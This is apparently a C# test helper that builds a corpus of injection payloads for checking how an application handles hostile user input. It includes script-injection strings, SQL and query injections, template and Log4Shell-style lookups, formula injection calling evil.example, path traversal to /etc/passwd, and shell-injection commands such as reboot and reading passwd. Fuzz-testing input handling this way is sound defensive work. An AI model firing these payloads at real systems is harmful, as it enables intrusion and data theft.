using System.Globalization;

namespace FollowUp.Tests.Infrastructure;

/// <summary>
/// What attackers type: families of payloads, each in the contexts that its kind breaks out of. Whatever shows or sends on
/// what people have typed is tried with all of them.
/// </summary>
internal static class InjectionCorpus
{
    /// <summary>Called by a script that runs: a page is watched for it.</summary>
    public const string Canary = "followupCanary";

    private static readonly string[] Scripts =
    [
        $"<script>{Canary}()</script>", $"<ScRiPt >{Canary}()</sCrIpT >", $"<script/src=//evil.example/x.js></script>", $"<img src=x onerror={Canary}()>", $"<img/src='x'/onerror={Canary}()>",
        $"<svg onload={Canary}()>", $"<svg><script>{Canary}()</script></svg>", $"<svg><animate onbegin={Canary}() attributeName=x dur=1s>", $"<body onload={Canary}()>", $"<iframe src=javascript:{Canary}()>",
        $"<iframe srcdoc='<script>parent.{Canary}()</script>'>", $"<details open ontoggle={Canary}()>", $"<input autofocus onfocus={Canary}()>", $"<video><source onerror={Canary}()></video>", $"<a href=javascript:{Canary}()>x</a>",
        $"<a href='java\tscript:{Canary}()'>x</a>", $"<form action=javascript:{Canary}()><button>x</button></form>", "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example/'>", "<link rel=stylesheet href=//evil.example/x.css>",
        $"<math><mtext><table><mglyph><style><img src=x onerror={Canary}()>", $"<noscript><p title=\"</noscript><img src=x onerror={Canary}()>\">", $"<style>@import'//evil.example/x.css'</style>", "<object data=//evil.example/x.swf></object>", "<embed src=//evil.example/x.swf>",
        $"<template><script>{Canary}()</script></template>", "<plaintext>", "<xmp>", "<!--", "<![CDATA[", "<textarea>", "<title>", "<select><option>", $"<marquee onstart={Canary}()>x</marquee>", "<portal src=//evil.example/>", $"<x onclick={Canary}() style=position:fixed;inset:0>",
    ];

    private static readonly string[] BreakOuts = ["{0}", "\">{0}", "'>{0}", "</textarea>{0}", "</title>{0}", "--></style>{0}", "</script>{0}", "]]>{0}", "</span></div></main>{0}"];

    private static readonly string[] Attributes =
        [$"\" onmouseover={Canary}() x=\"", $"' onfocus='{Canary}()' autofocus x='", $"` onload={Canary}() ", $"x onpointerover={Canary}()", $"\" style=\"background:url(javascript:{Canary}())\"", $"javascript:{Canary}()", $"data:text/html,<script>{Canary}()</script>", $"vbscript:{Canary}", "//evil.example", "https://evil.example/login", "https:evil.example", "www.evil.example", "\\\\evil.example\\share", "mailto:x@evil.example", "tel:0900123"];

    private static readonly string[] Templates =
        ["{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "@(7*7)", "@{ throw new Exception(); }", "{0}", "{0:x}{1}{2}", "{{body}}", "{{{link}}}", "{% raw %}x", "*{7*7}", "[[${7*7}]]", "${{<%[%'\"}}%\\", "@Model.Link.Hash", "@@", "@*", "%s%s%s%n", "%d%x", "$(id)", "`id`", "{{constructor.constructor('x')()}}", "{{request.application}}", "__proto__", "constructor", "toString", "<#if x>", "#set($x=1)", "${jndi:ldap://evil.example/x}", "{{'a'|upper}}"];

    private static readonly string[] Queries =
        ["' or '1'='1", "' or 1 eq 1 or '", "x' or PartitionKey ne 'zzz", "') or (RowKey gt '", "'; DROP TABLE Register;--", "\" OR \"\"=\"", "1; SELECT pg_sleep(9)", "' UNION SELECT NULL--", "admin'--", "*)(uid=*))(|(uid=*", "' and substringof('a',RowKey) and '", "x' and Timestamp lt datetime'2030-01-01'", "%27%20or%20%271", "/**/or/**/1=1", "[$ne]", "{\"$gt\":\"\"}", "';exec xp_cmdshell('dir')--", "PartitionKey eq 'x'", "0x31303235", "\\'; --"];

    private static readonly string[] LineBreaks = ["\r\n", "\n", "\r", "\u0085", "\u2028", "\u2029", "\v", "\f", "%0d%0a", "\\r\\n", "&#13;&#10;", "=0D=0A", "嘊嘍"];

    private static readonly string[] Headers = ["Bcc: all@evil.example", "To: x@evil.example", "Subject: Urgent", "Content-Type: text/html", "Set-Cookie: a=b", "Location: //evil.example", "\r\n<script>x</script>", "X-SMTPAPI: {}", "END:VEVENT\r\nBEGIN:VEVENT", "ATTACH:file:///etc/passwd"];

    private static readonly string[] Unicode =
        ["\u202Eevil\u202C", "\u2066x\u2069", "\u200Bx\u200B", "\uFEFFx", "\u00ADx", "x\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301", "ｘ＜ｓｃｒｉｐｔ＞", "‹script›", "＜img src=x onerror=x()＞", "شكرا جزيلا", "שלום עולם", "日本語の文章", "👩🏽‍⚖️🏴󠁧󠁢󠁷󠁬󠁳󠁿", "𝔘𝔫𝔦𝔠𝔬𝔡𝔢", "İıſK", "ﷺﷺ", "\u061Cx", "\u180Ex", "\uFFFC", "\uFFFE", "\uFFFF", "\uD800", "\uDC00x", "a\u0000b", "\u0001\u0002\u0003", "\u001B[31mred\u001B[0m", "\u007F", "\u009B31m", "Ω≈ç√∫", "\u034F\u034F", "\u2800\u2800", "\u3164", "\u115F", "\u17B4", "\u2060x"];

    private static readonly string[] Formulas = ["=1+1", "+1+1", "-1+1", "@SUM(1)", "=HYPERLINK(\"//evil.example\")", "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "＝1+1", "＋1", "－1", "＠x", "=IMPORTXML(\"//evil.example\",\"//a\")", "=DDE(\"cmd\";\"/C calc\")", "\0=1+1", "'=1+1", "\"=1+1\"", ";=1+1", ",=1+1", "|=1+1"];

    private static readonly string[] Paths = ["../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "C:\\boot.ini", "file:///etc/passwd", "%2e%2e%2f", "....//", "..;/", "\\\\?\\C:\\", "CON", "NUL", "aux.txt", "a/b#c?d", "~root", "$HOME", "%PATH%", ".htaccess", "x\0.png", "/proc/self/environ", "\\..\\"];

    private static readonly string[] Shells = ["; ls", "| cat /etc/passwd", "&& id", "$(reboot)", "`reboot`", "\n/bin/id", "() { :; }; echo x", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>", "<?xml version=\"1.0\"?>", "<?php system('id'); ?>", "<!--#exec cmd=\"id\"-->", "<xsl:value-of select='x'/>"];

    private static readonly string[] Numbers = ["0", "-1", "NaN", "Infinity", "1e309", "9223372036854775808", "2147483648", "0x7f", "00", "1,000", "true", "null", "undefined", "[]", "{}", "[object Object]", " ", "\t", "\u00A0", "&nbsp;", "&lt;script&gt;", "&amp;lt;", "&#x3c;script&#x3e;", "%3Cscript%3E", "\\u003cscript\\u003e", "\\x3cscript\\x3e", "+ADw-script+AD4-"];

    /// <summary>All payloads, each once.</summary>
    public static IReadOnlyList<string> All { get; } =
    [
        .. new[]
        {
            Scripts.SelectMany(script => BreakOuts.Select(before => before.Replace("{0}", script, StringComparison.Ordinal))),
            Attributes,
            Templates,
            Queries,
            LineBreaks.SelectMany(end => Headers.Select(header => $"x{end}{header}")),
            Unicode,
            Formulas,
            Paths,
            Shells,
            Numbers,
            [new string('x', 5000), new string('<', 3000), string.Concat(Enumerable.Repeat("<b>", 1000)), string.Concat(Enumerable.Repeat("\n", 500)) + "x", string.Concat(Enumerable.Repeat("&", 3000)), new string('\u202E', 500), string.Concat(Enumerable.Repeat("a\u0300", 1500))],
        }.SelectMany(family => family).Distinct(),
    ];

    /// <summary>Those that a form takes, each with its number before it, so that it can be found again.</summary>
    public static IReadOnlyList<string> Storable { get; } =
        [.. All.Where(p => p.Length <= 900 && !p.Any(c => char.IsControl(c) || char.IsSurrogate(c))).Select((p, i) => string.Create(CultureInfo.InvariantCulture, $"p{i}q {p}"))];
}
